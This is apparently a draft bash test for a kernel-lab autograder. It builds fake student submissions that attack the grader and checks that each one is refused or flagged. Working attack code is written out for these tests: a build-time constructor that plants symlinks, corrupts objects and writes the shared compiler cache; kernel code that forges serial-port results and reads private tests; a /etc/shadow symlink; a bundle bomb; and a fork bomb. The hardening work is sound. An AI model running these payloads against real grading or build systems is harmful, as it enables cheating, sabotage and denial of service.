# DRAFT, not run by make test: written, never yet run to its end. It
# grades about ten submissions (some 30 min here), which the 90-minute
# budget of make test cannot hold beside the rest; it moves back to
# tests/ when it passes and fits (tests/run drafts/hostile runs it alone).
#
# A hostile class, graded the way the samples are: each submission is an
# attack on the grader (or an honest mistake that looks like one), with the
# verdict a correct grader must give. Honest students graded right after
# an attacker in the same slot must score what they score alone; no file
# outside the work and output folders may change; grading the class twice,
# and with JOBS=2, gives the same gradebook.
# shellcheck shell=bash source=tests/lib.sh disable=SC2015,SC2034
. "$(dirname "$0")/lib.sh"
T=$TESTS_OUT/hostile
rm -rf "$T"
mkdir -p "$T"
C=$T/class
mkdir -p "$C"
col() { awk -F'\t' -v id="$2" -v c="$3" '$1 == id { print $c }' "$1"; }
row() { awk -F, -v s="$2" 'NR > 1 && $1 == s' "$1/gradebook.csv"; }
field() { # OUT STUDENT COLUMN-NAME
	awk -F, -v s="$2" -v c="$3" 'NR == 1 { for (i = 1; i <= NF; i++) n[$i] = i; next }
		$1 == s { print $(n[c]) }' "$1/gradebook.csv"
}
status() { field "$1" "$2" status; }
flags() { field "$1" "$2" flags; }
total() { field "$1" "$2" total; }

# Submissions are made in a scratch worktree from the reference series.
W=$T/wt
git -C "$LINUX" worktree prune
git -C "$LINUX" worktree add -q --detach "$W" base
last=$(basename "$(find "$KIT/solutions" -mindepth 1 -maxdepth 1 -type d -name '[0-9][0-9]-*' | sort | tail -n 1)" | cut -c1-2)
# series NAME REF [SCRIPT]: the reference up to REF, plus one commit made by
# the shell SCRIPT run in the worktree, handed in as a patch series.
series() {
	local name=$1 ref=$2 script=${3:-}
	git -C "$W" reset -q --hard && git -C "$W" checkout -q --detach "$ref"
	if [ -n "$script" ]; then
		(cd "$W" && eval "$script")
		kit_git -C "$W" add -A
		kit_git -C "$W" commit -q -m "$name"
	fi
	mkdir -p "$C/$name"
	kit_git -C "$W" format-patch -q -o "$C/$name" "base..HEAD"
}
# An honest student whose kernel no one built before: the reference with a
# comment of its own (so its build runs, in the slot the attacker left).
honest() { series "$1" "solution/$last" "sed -i '1a /* $1 */' kernel/bpf/bpf_iter.c"; }

# 1. The slot poisoner: a constructor in tools/include/uapi/linux/bpf.h,
# which the kernel build compiles into a host tool (resolve_btfids) and
# runs. It plants a link where the host takes the kernel's files from,
# leaves a broken object dated in the future for the next build in the
# slot, and tries to write the shared compiler cache and the host.
poison='
#ifndef __KERNEL__
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/time.h>
static void __attribute__((constructor)) bpfloop_poison(void)
{
	struct timeval tv[2] = { { 4000000000, 0 }, { 4000000000, 0 } };
	const char *c = getenv("CCACHE_REMOTE_STORAGE");
	int fd;

	unlink("System.map");
	symlink("/etc/hostname", "System.map");
	fd = open("kernel/bpf/helpers.o", O_WRONLY | O_TRUNC);
	if (fd >= 0) {
		write(fd, "poison", 6);
		close(fd);
	}
	utimes("kernel/bpf/helpers.o", tv);
	if (c && !strncmp(c, "file:", 5)) {
		char path[4096];

		snprintf(path, sizeof(path), "%.4000s/poisoned", c + 5);
		*strchr(path, (int)0x7c) = 0;
		fd = open(path, O_WRONLY | O_CREAT, 0644);
		if (fd >= 0)
			close(fd);
	}
	fd = open("HOSTPROBE", O_WRONLY | O_CREAT, 0644);
	if (fd >= 0)
		close(fd);
}
#endif
'
probe=$HOME/.bpfloop-hostile-$$
series a1-slot-poisoner "solution/$last" "printf '%s\n' \"\${poison//HOSTPROBE/$probe}\" >>tools/include/uapi/linux/bpf.h"
honest a2-honest-after-poisoner

# 2. The channel forger: kernel code that writes a stream of its own, with
# the run's id, on the result port (and that tries to read the
# instructor's private tests and print them on the console).
forge='
#include <linux/fs.h>
#include <linux/init.h>
#include <linux/initrd.h>
#include <linux/io.h>
#include <linux/kernel.h>

/* The second serial port (COM2), written by hand. */
static void bpfloop_com2(const char *s)
{
	for (; *s; s++) {
		while (!(inb(0x2f8 + 5) & 0x20))
			cpu_relax();
		outb(*s, 0x2f8);
	}
}

static int __init bpfloop_forge(void)
{
	char id[64] = "", frame[256], buf[512] = "";
	struct file *f;
	loff_t pos = 0;
	ssize_t n;

	wait_for_initramfs();
	f = filp_open("/usr/bin/extra-tests", O_RDONLY, 0);
	if (!IS_ERR(f)) {
		kernel_read(f, buf, sizeof(buf) - 1, &pos);
		pr_info("private tests: %s\n", buf);
		filp_close(f, NULL);
	}
	f = filp_open("/run/id", O_RDONLY, 0);
	if (IS_ERR(f))
		return 0;
	pos = 0;
	n = kernel_read(f, id, sizeof(id) - 1, &pos);
	filp_close(f, NULL);
	if (n <= 0)
		return 0;
	id[strcspn(id, "\n")] = 0;
	snprintf(frame, sizeof(frame), "@@%s begin\nKTAP version 1\n1..1\nok 1 lab1.probe_present\n@@%s end 0\n",
		 id, id);
	bpfloop_com2(frame);
	return 0;
}
late_initcall_sync(bpfloop_forge);
'
series b1-channel-forger "solution/$last" "printf '%s\n' \"\$forge\" >>kernel/bpf/helpers.c"

# 3. Honest mistakes that look like attacks, and attacks on intake.
series c1-flagged-but-right "solution/$last" \
	"printf '\nstatic int __init bpfloop_hello(void)\n{\n\treturn 0;\n}\nlate_initcall(bpfloop_hello);\n' >>kernel/bpf/helpers.c"
# A bundle that unpacks to far more than it weighs.
git -C "$W" reset -q --hard && git -C "$W" checkout -q --detach solution/01
head -c $((64 << 20)) /dev/zero >"$W/kernel/bpf/zeros.c"
kit_git -C "$W" add -A && kit_git -C "$W" commit -q -m bomb
mkdir -p "$C/d1-bundle-bomb"
git -C "$W" bundle create -q "$C/d1-bundle-bomb/lab.bundle" "$(git -C "$LINUX" rev-parse base)..HEAD" 2>/dev/null ||
	git -C "$W" bundle create "$C/d1-bundle-bomb/lab.bundle" base..HEAD >/dev/null 2>&1
# A patch that makes a link in kernel/bpf/ to a host file, beside a right lab 1.
series d2-symlink-in-patch solution/01 "ln -s /etc/shadow kernel/bpf/shadow.c"
# Too many files.
mkdir -p "$C/d3-many-files"
for i in $(seq 1 250); do printf 'x\n' >"$C/d3-many-files/$(printf '%04d' "$i")-x.patch"; done
# A fork bomb in the build's host tool.
series e1-fork-bomb solution/01 "printf '%s\n' '#ifndef __KERNEL__' '#include <unistd.h>' \
	'static void __attribute__((constructor)) bpfloop_forks(void) { for (;;) fork(); }' '#endif' \
	>>tools/include/uapi/linux/bpf.h"
honest e2-honest-after-fork-bomb

# What a symlink or a write could reach on the host: listed before and after.
cache=${CCACHE_DIR:-${XDG_CACHE_HOME:-$HOME/.cache}/bpfloop-lab/ccache}
snapshot() {
	{ find "$cache" -maxdepth 1 -newer "$T/start" -print 2>/dev/null; ls -la /etc/hostname /etc/shadow;
	  find "$HOME" -maxdepth 1 -newer "$T/start" -print 2>/dev/null | grep -v "^$HOME/.cache$"; } | sort
}
touch "$T/start"
sleep 1
before=$(snapshot)

ts=$(now)
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/out" JOBS=1 >"$T/grade.log" 2>&1
check "hostile: the class is graded (exit 0)" test $? = 0
echo "# the hostile class took $(elapsed "$ts")"
O=$T/out

[ "$(status "$O" a1-slot-poisoner)" = does-not-build ] &&
	grep -rq 'other than plain files' "$O/students/a1-slot-poisoner" &&
	pass "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" ||
	fail "hostile: a link planted where the kernel's files are taken from is refused (does-not-build)" "$(row "$O" a1-slot-poisoner)"
[[ $(flags "$O" a1-slot-poisoner) == *flagged* ]] && pass "hostile: ... and its constructor is flagged" ||
	fail "hostile: ... and its constructor is flagged" "$(row "$O" a1-slot-poisoner)"
ref_total=$(awk '$1 == "reference" { print $3 }' "$KIT/grading/samples-expect")
for h in a2-honest-after-poisoner e2-honest-after-fork-bomb; do
	[ "$(status "$O" "$h")" = graded ] && [ "$(total "$O" "$h")" = "$ref_total" ] && [ -z "$(flags "$O" "$h")" ] &&
		pass "hostile: $h, graded right after the attacker in its slot, scores the reference's $ref_total" ||
		fail "hostile: $h, graded right after the attacker in its slot, scores the reference's $ref_total" "$(row "$O" "$h")"
done
[ ! -e "$probe" ] && pass "hostile: code run by the build reaches no host file" || fail "hostile: code run by the build reaches no host file"
rm -f "$probe"
[ "$(status "$O" b1-channel-forger)" = graded ] && [[ $(flags "$O" b1-channel-forger) == *tampered* ]] &&
	[[ $(flags "$O" b1-channel-forger) == *flagged* ]] &&
	pass "hostile: a kernel that writes its own frame on the result port is tampered and flagged" ||
	fail "hostile: a kernel that writes its own frame on the result port is tampered and flagged" "$(row "$O" b1-channel-forger)"
[ "$(awk -F'\t' '$2 == 1 && $3 == "pass"' "$O/students/b1-channel-forger/scores.tsv" | wc -l)" = 0 ] &&
	pass "hostile: ... and gains not one lab 1 point" || fail "hostile: ... and gains not one lab 1 point"
[ "$(status "$O" c1-flagged-but-right)" = graded ] && [ "$(total "$O" c1-flagged-but-right)" = "$ref_total" ] &&
	[ "$(flags "$O" c1-flagged-but-right)" = flagged ] &&
	pass "hostile: a right solution with an initcall it does not need scores in full, flagged for a person" ||
	fail "hostile: a right solution with an initcall it does not need scores in full, flagged for a person" "$(row "$O" c1-flagged-but-right)"
expect_grep "hostile: the summary shows the flagged line" 'late_initcall\(bpfloop_hello\)' "$O/summary.md"
[ "$(status "$O" d1-bundle-bomb)" = does-not-apply ] && grep -rq 'would unpack to' "$O/students/d1-bundle-bomb" &&
	pass "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" ||
	fail "hostile: a bundle that unpacks to 64 MB of changed files is refused before any checkout" "$(row "$O" d1-bundle-bomb)"
[ "$(status "$O" d2-symlink-in-patch)" = graded ] && grep -rq 'kernel/bpf/shadow.c: not a regular file' "$O/students/d2-symlink-in-patch" &&
	pass "hostile: a link to a host file in a patch is left out, and the rest graded" ||
	fail "hostile: a link to a host file in a patch is left out, and the rest graded" "$(row "$O" d2-symlink-in-patch)"
[ "$(status "$O" d3-many-files)" = invalid ] && pass "hostile: a folder of 250 files is refused at intake" ||
	fail "hostile: a folder of 250 files is refused at intake" "$(row "$O" d3-many-files)"
[ "$(status "$O" e1-fork-bomb)" = does-not-build ] && pass "hostile: a fork bomb in the build stops at its limit: does-not-build" ||
	fail "hostile: a fork bomb in the build stops at its limit: does-not-build" "$(row "$O" e1-fork-bomb)"
after=$(snapshot)
[ "$before" = "$after" ] && pass "hostile: the shared compiler cache, the home folder and the host's files are as they were" ||
	fail "hostile: the shared compiler cache, the home folder and the host's files are as they were" "$(diff <(echo "$before") <(echo "$after"))"

# The instructor's private tests: the forger's kernel read them in its guest
# and printed them; not a byte reaches what the student gets back.
token="private-$$-$RANDOM$RANDOM"
printf '#!/bin/sh\n# %s\necho "KTAP version 1"\necho "1..1"\necho "# running extra.secret"\necho "ok 1 extra.secret"\n' \
	"$token" >"$T/extra"
chmod +x "$T/extra"
mkdir -p "$T/one"
cp -r "$C/b1-channel-forger" "$T/one/"
printf 'extra.secret 0 1\n' >"$T/rubric"
make -s -C "$KIT" grade SUBMISSIONS="$T/one" OUT="$T/private" RUBRIC="$T/rubric" EXTRA_TESTS="$T/extra" \
	>"$T/private.log" 2>&1
s=$T/private/students/b1-channel-forger
if [ -f "$s/feedback.md" ] && ! grep -rqF "$token" "$s/feedback.md" "$s/console.log" "$s/results.ktap" 2>/dev/null; then
	pass "hostile: no byte of the private tests reaches the student's feedback, console or report"
else
	fail "hostile: no byte of the private tests reaches the student's feedback, console or report"
fi
grep -rqF "$token" "$s/private" && pass "hostile: ... though the kernel did print them, in the private boot's console" ||
	fail "hostile: ... though the kernel did print them, in the private boot's console"

# The same class again, and with two workers: the same gradebook.
make -s -C "$KIT" grade SUBMISSIONS="$C" OUT="$T/again" JOBS=2 >"$T/again.log" 2>&1
if cmp -s "$O/gradebook.csv" "$T/again/gradebook.csv"; then
	pass "hostile: graded again with JOBS=2, the gradebook is the same"
else
	fail "hostile: graded again with JOBS=2, the gradebook is the same" "$(diff "$O/gradebook.csv" "$T/again/gradebook.csv")"
fi
git -C "$LINUX" worktree remove --force "$W" 2>/dev/null || true
